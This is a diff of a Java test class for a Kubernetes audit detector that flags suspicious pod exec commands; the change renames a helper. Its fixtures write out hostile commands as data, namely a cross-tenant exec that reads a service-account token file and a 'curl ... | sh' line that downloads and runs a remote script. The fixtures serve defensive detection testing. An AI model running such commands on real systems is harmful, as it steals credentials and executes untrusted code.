@@ -53,7 +53,7 @@ class ExecSuspiciousCommandTest {
 
     @Test
     void aCrossTenantExecStealingTheTokenRaisesBothCrossTenantExecAndThis() {
-        assertThat(InteractiveEvents.detectorsRaising(AuditEvents.by(ALICE)
+        assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
                 .exec("beta-prod", "payments-api-6c9f7d8b4-k2x7q", "sh", "-c", "cat " + TOKEN_PATH).build()))
                 .contains("cross-tenant-exec", "exec-suspicious-command")
                 .doesNotContain("pod-exec");
@@ -61,10 +61,10 @@ class ExecSuspiciousCommandTest {
 
     @Test
     void anAdminsExecRaisesPodExecAndThisAndAnOwnTenantExecOnlyThis() {
-        assertThat(InteractiveEvents.detectorsRaising(AuditEvents.by(MASTERCLIENT)
+        assertThat(Detect.detectorsRaising(AuditEvents.by(MASTERCLIENT)
                 .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh").build()))
                 .contains("pod-exec", "exec-suspicious-command");
-        assertThat(InteractiveEvents.detectorsRaising(AuditEvents.by(ALICE)
+        assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
                 .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh").build()))
                 .contains("exec-suspicious-command")
                 .doesNotContain("pod-exec", "cross-tenant-exec");
